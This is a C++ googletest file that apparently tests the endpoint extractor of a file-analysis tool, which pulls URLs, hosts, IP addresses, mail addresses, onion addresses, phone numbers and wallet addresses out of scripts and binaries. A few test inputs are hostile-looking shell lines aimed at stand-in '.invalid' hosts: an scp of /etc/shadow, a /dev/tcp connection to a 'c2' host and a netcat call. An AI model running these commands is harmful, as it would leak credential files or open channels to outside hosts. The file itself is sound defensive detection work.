#include <gtest/gtest.h>

#include <random>

#include "evidence/recorder.h"
#include "examine/endpoints/address.h"
#include "examine/endpoints/host_name.h"
#include "examine/encodings/keccak.h"
#include "examine/endpoints/wallet.h"

namespace examine {
const evidence::Reader& endpoints();

namespace {

using evidence::Facet;

evidence::Reading look(std::string_view text, std::string_view kind = "script/shell", std::string_view name = "x") {
  return evidence::read_alone(endpoints(), base::bytes_of(text), kind, name);
}
std::vector<std::string> values(const evidence::Reading& r, std::string_view word) {
  std::vector<std::string> out;
  for (const auto& i : r.sink.all(Facet::endpoint, word)) out.push_back(i.value);
  return out;
}
std::string label(const evidence::Reading& r, std::string_view value) {
  for (const auto& i : r.sink.items)
    if (i.value == value) return i.attributes.contains("label") ? i.attributes.at("label") : "none";
  return "absent";
}
using List = std::vector<std::string>;

TEST(Endpoints, UrlIsNormalisedAndTrimmed) {
  const auto r = look("see (HTTPS://Beacon.Vendor.INVALID:8443/Path?q=1), and more");
  EXPECT_EQ(values(r, "url"), List{"https://beacon.vendor.invalid:8443/Path?q=1"});
  EXPECT_EQ(values(r, "host"), List{"beacon.vendor.invalid"});
  const auto item = r.sink.all(Facet::endpoint, "url")[0];
  EXPECT_EQ(item.range.offset, 5u);
  EXPECT_EQ(item.attributes.at("label"), "reserved");
  EXPECT_EQ(item.attributes.at("scheme"), "https");
}

TEST(Endpoints, UrlInEscapedJsonAndNextToText) {
  const auto r = look(R"({"u":"http:\/\/data.vendor.invalid\/a\/b","v":1})");
  EXPECT_EQ(values(r, "url"), List{"http://data.vendor.invalid/a/b"});
  EXPECT_EQ(r.sink.all(Facet::endpoint, "url")[0].excerpt, R"(http:\/\/data.vendor.invalid\/a\/b)");
}

TEST(Endpoints, FileUrlsAndLocalSchemesAreNotOutside) {
  EXPECT_TRUE(look("file:///etc/passwd chrome://settings/ resource://gre/x data:a").sink.items.empty());
}

TEST(Endpoints, UrlWithPasswordIsSecret) {
  EXPECT_TRUE(look("ftp://joe:hunter2@files.vendor.invalid/").sink.all(Facet::endpoint, "url")[0].secret);
  EXPECT_FALSE(look("ftp://joe@files.vendor.invalid/").sink.all(Facet::endpoint, "url")[0].secret);
}

TEST(Endpoints, NamespacesAreLabelledNotDropped) {
  const auto r = look("<svg xmlns=\"http://www.w3.org/2000/svg\">\n<a href=\"http://www.w3.org/about\">", "text", "x.svg");
  EXPECT_EQ(label(r, "http://www.w3.org/2000/svg"), "namespace-uri");
  EXPECT_EQ(label(r, "http://www.w3.org/about"), "none");
}

TEST(Endpoints, EqualOnesAreCountedOnce) {
  const auto r = look("http://a.vendor.invalid/\nhttp://a.vendor.invalid/\nhttp://a.vendor.invalid/");
  ASSERT_EQ(values(r, "url").size(), 1u);
  EXPECT_EQ(r.sink.all(Facet::endpoint, "url")[0].count, 3u);
}

TEST(Endpoints, AddressesAndVersions) {
  EXPECT_EQ(values(look("connect 203.0.113.7:4444"), "ipv4"), List{"203.0.113.7"});
  EXPECT_EQ(label(look("connect 203.0.113.7:4444"), "203.0.113.7"), "documentation");
  EXPECT_EQ(label(look("bind 127.0.0.1"), "127.0.0.1"), "loopback");
  EXPECT_EQ(label(look("gw 192.168.1.1"), "192.168.1.1"), "private");
  for (const auto text : {"version 93.184.216.34", "foo (>= 1.2.3.4)", "libx-93.184.216.34", "93.184.216.34-1", "1.2.840.113549.1.1", "mask 255.255.255.0", "v8.8.4.4.2", "1.3.6.1",
                          "01.2.3.4", "foo 300.1.1.1"})
    EXPECT_TRUE(values(look(text), "ipv4").empty()) << text;
  EXPECT_EQ(values(look("nameserver 8.8.8.8"), "ipv4"), List{"8.8.8.8"});
  EXPECT_EQ(values(look("x = \"93.184.216.34\""), "ipv4"), List{"93.184.216.34"});
}

TEST(Endpoints, Ipv6) {
  EXPECT_EQ(values(look("to 2001:DB8::0:1 now"), "ipv6"), List{"2001:db8::1"});
  EXPECT_EQ(label(look("to 2001:db8::1 now"), "2001:db8::1"), "documentation");
  EXPECT_EQ(label(look("[::1]:80"), "::1"), "loopback");
  for (const auto text : {"std::add", "12:34:56", "00:11:22:33:44:55", "00:11:22:33:44:55:66:77", "dead::beef::1", "a::b", "::add", "Foo::Bar::Baz", "x ? a:b:c"})
    EXPECT_TRUE(values(look(text), "ipv6").empty()) << text;
}

TEST(Endpoints, MailsAreSecret) {
  const auto r = look("report to Jane.Doe+x@Vendor.INVALID.", "text");
  ASSERT_EQ(values(r, "mail"), List{"jane.doe+x@vendor.invalid"});
  EXPECT_TRUE(r.sink.items[0].secret);
  EXPECT_EQ(values(look("jan@poczta.pl", "text"), "mail").size(), 1u);
  for (const auto text : {"pkg@1.2.3", "memcpy@GLIBC_2.14", "user@libfoo.so", "dbus@user.service", "@decorator.name", "a@b"}) EXPECT_TRUE(values(look(text), "mail").empty()) << text;
}

TEST(Endpoints, SshTargetIsAHostNotAMailbox) {
  const auto r = look("scp /etc/shadow drop@files.vendor.invalid:/in/");
  EXPECT_EQ(values(r, "host"), List{"files.vendor.invalid"});
  EXPECT_TRUE(values(r, "mail").empty());
}

TEST(Endpoints, HostsOnlyInContext) {
  EXPECT_EQ(values(look("exec 3<>/dev/tcp/c2.vendor.invalid/443"), "host"), List{"c2.vendor.invalid"});
  EXPECT_EQ(values(look("nc -w 3 drop.vendor.invalid 4444"), "host"), List{"drop.vendor.invalid"});
  EXPECT_TRUE(values(look("nc -l 1234 > filename.in"), "host").empty());
  EXPECT_EQ(values(look("server = \"relay.vendor.invalid\""), "host"), List{"relay.vendor.invalid"});
  EXPECT_EQ(values(look(std::string_view("\0beacon.vendor.invalid\0", 23), "elf"), "host"), List{"beacon.vendor.invalid"});
  for (const auto text : {"import foo.com.bar", "'README.md'", "'main.py'", "\"org.apache.net\"", "window.name", "\"user.name\"", "see setup.py", "use java.net now", "x = foo.org"})
    EXPECT_TRUE(values(look(text), "host").empty()) << text;
}

TEST(Endpoints, OnionNeedsItsChecksum) {
  const std::string good = "duckduckgogg42xjoc72x3sjasowoarfbgcmvfimaftt6twagswzczad";
  EXPECT_TRUE(is_onion_v3(good));
  EXPECT_EQ(values(look("go " + good + ".onion now"), "onion"), List{good + ".onion"});
  auto bad = good;
  bad[3] = 'a';
  EXPECT_FALSE(is_onion_v3(bad));
  EXPECT_TRUE(values(look("go " + bad + ".onion now"), "onion").empty());
  EXPECT_TRUE(values(look("the.onion"), "onion").empty());
}

TEST(Endpoints, Phones) {
  EXPECT_EQ(values(look("sms:+1-555-010-9999"), "phone"), List{"+15550109999"});
  EXPECT_EQ(values(look("send(\"+15550109999\")"), "phone"), List{"+15550109999"});
  EXPECT_TRUE(values(look("x = 1+15550109999; 'a+12'; hotel:12345678"), "phone").empty());
}

TEST(Endpoints, Wallets) {
  EXPECT_TRUE(is_bitcoin_base58("1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa"));
  EXPECT_FALSE(is_bitcoin_base58("1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNb"));
  EXPECT_TRUE(is_bitcoin_bech32("bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4"));
  EXPECT_FALSE(is_bitcoin_bech32("bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t5"));
  EXPECT_TRUE(is_ethereum("0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed"));
  EXPECT_FALSE(is_ethereum("0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAeD"));
  EXPECT_EQ(values(look("pay 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa now"), "wallet").size(), 1u);
  EXPECT_EQ(values(look("pay 0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed"), "wallet").size(), 1u);
}

TEST(Endpoints, KeccakKnownAnswers) {
  EXPECT_EQ(base::to_hex(keccak_256({})), "c5d2460186f7233c927e7db2dcc703c0e500b653ca82273b7bfad8045d85a470");
  EXPECT_EQ(base::to_hex(sha3_256({})), "a7ffc6f8bf1ed76651c14756a061d662f580ff4de43b49fa82d80a4b80f8434a");
}

TEST(Endpoints, WideText) {
  std::string wide = "ab";
  for (const char c : std::string_view("http://wide.vendor.invalid/x")) wide += c, wide += '\0';
  const auto r = look(wide, "pe");
  ASSERT_EQ(values(r, "url"), List{"http://wide.vendor.invalid/x"});
  EXPECT_EQ(r.sink.all(Facet::endpoint, "url")[0].range.offset, 2u);
  EXPECT_EQ(r.sink.all(Facet::endpoint, "url")[0].attributes.at("encoding"), "utf-16le");
}

TEST(Endpoints, ManyDistinctValuesAreBounded) {
  std::string text;
  for (int i = 0; i < 3000; ++i) text += fmt::format("http://h{}.vendor.invalid/\n", i);
  const auto r = look(text);
  EXPECT_EQ(values(r, "url").size(), 1001u);
  EXPECT_TRUE(r.sink.has(Facet::endpoint, "url", "2000 more of this kind"));
}

TEST(Endpoints, TruncatedAndMutated) {
  const std::string whole =
      "curl https://u:p@a.vendor.invalid:1/x?y#z [2001:db8::1]:5 203.0.113.7:80 \0x\0 sms:+15550109999 me@vendor.invalid:p http:\\/\\/q.vendor.invalid\\/ bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4 0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed";
  for (std::size_t n = 0; n <= whole.size(); ++n) EXPECT_TRUE(look(std::string_view(whole).substr(0, n)).result);
  std::mt19937 random(7);
  for (int i = 0; i < 4000; ++i) {
    auto mutant = whole;
    for (int k = 0; k < 3; ++k) mutant[random() % mutant.size()] = static_cast<char>(random() % 4 ? ":/@.+[]\\1x\0"[random() % 11] : random());
    const auto r = look(mutant);
    ASSERT_TRUE(r.result);
    for (const auto& item : r.sink.items) ASSERT_LE(item.range.end(), mutant.size());
  }
}

}  // namespace
}  // namespace examine
